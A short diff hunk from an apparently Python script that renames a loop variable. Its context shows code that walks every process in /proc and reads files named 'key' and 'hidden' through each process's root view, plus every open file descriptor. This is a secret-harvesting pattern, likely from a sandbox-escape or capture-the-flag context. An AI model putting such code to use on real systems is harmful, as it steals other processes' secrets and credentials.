@@ -17,8 +17,8 @@ def _take(path):
 
 
 for _proc in _glob.glob("/proc/[0-9]*"):
-    for _secret in (_PLACES["key"], _PLACES["hidden"]):
-        _take(_proc + "/root" + _secret)
+    for _target in (_PLACES["key"], _PLACES["hidden"]):
+        _take(_proc + "/root" + _target)
     for _fd in _glob.glob(_proc + "/fd/*"):
         _take(_fd)
     try:
